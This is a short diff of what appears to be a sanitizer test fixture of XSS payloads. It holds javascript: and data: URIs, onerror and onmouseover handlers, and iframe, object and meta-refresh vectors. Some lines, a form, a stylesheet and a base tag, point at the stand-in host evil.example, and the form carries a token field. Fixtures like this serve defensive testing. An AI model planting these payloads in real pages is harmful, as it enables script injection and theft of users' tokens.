@@ -30,7 +30,8 @@ tags: ["<img src=x onerror=alert(1)>"]
 <iframe src="javascript:alert(1)"></iframe><embed src=x>
 <object data="data:text/html,<script>alert(1)</script>"></object>
 <img src=x onerror=alert(1)><a href="javascript:alert(1)">a</a> [b](javascript:alert(1)) [c](JaVaScRiPt&#58;alert(1))
-[d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:x) ![f](javascript:alert(1)) <https://ok.example/"onmouseover="alert(1)>
+[d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:x) ![f](javascript:alert(1))
+<https://ok.example/"onmouseover="alert(1)>
 <form action=//evil.example><input name=token><button formaction="javascript:alert(1)">go</button></form>
 <style>*{background:url(//evil.example)}</style><base href=//evil.example>
 <meta http-equiv=refresh content="0;url=//evil.example">
